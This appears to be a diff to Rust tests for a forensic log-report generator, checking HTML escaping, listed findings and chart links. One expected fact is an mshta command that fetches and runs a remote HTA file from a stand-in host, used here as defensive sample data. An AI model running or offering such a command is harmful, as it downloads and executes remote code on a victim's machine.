@@ -107,6 +107,7 @@ fn nothing_of_a_log_becomes_markup() {
         "use",
         "details",
         "summary",
+        "pre",
         "fieldset",
         "legend",
         "label",
@@ -209,7 +210,7 @@ fn every_finding_is_there_with_its_facts() {
         "cdn[.]evil-updates[.]example",
         "C:\\Windows\\System32\\mshta.exe http://update.example/a1.hta --quiet",
         "The rule asks that no such event lies here",
-        "2 copies, also in <code>case/WS02/Archive-Sysmon-2024-03-01.evtx</code>",
+        "2 copies, also in case/WS02/Archive-Sysmon-2024-03-01.evtx",
         "the record&#39;s template ends early",
     ] {
         assert!(page.contains(fact), "{fact}");
@@ -310,6 +311,34 @@ fn a_limit_is_stated_and_every_finding_is_still_listed() {
         "three chunks of the list, and the chart's table"
     );
     assert!(page.contains("10 hosts have no lane here"));
+}
+
+#[test]
+fn marks_lead_to_findings_that_are_shown_in_full_and_say_how_many_they_stand_for() {
+    let outcome = support::large(700, 50);
+    let page = page(&outcome, 300);
+    let drawings: Vec<&str> = page
+        .split("<svg viewBox")
+        .skip(1)
+        .map(|rest| rest.split("</svg>").next().expect("a drawing"))
+        .collect();
+    let leads: Vec<&str> = drawings
+        .iter()
+        .flat_map(|drawing| drawing.split("<a href=\"#").skip(1))
+        .map(|rest| rest.split('"').next().expect("an id"))
+        .collect();
+    assert!(leads.len() > 40, "{} marks lead anywhere", leads.len());
+    for id in leads {
+        assert!(page.contains(&format!("<article id=\"{id}\"")), "{id} is not shown in full");
+    }
+    let bars = drawings.iter().flat_map(|drawing| drawing.split("<rect class=\"bar").skip(1)).count();
+    let counted: usize = drawings[..]
+        .iter()
+        .filter(|drawing| drawing.contains("id=\"chart-title\""))
+        .flat_map(|drawing| drawing.split("<title>").skip(1))
+        .filter_map(|title| title.split(' ').next().and_then(|count| count.parse::<usize>().ok()))
+        .sum();
+    assert!(bars > 0 && counted == 700, "{bars} bars of {counted} findings");
 }
 
 #[test]
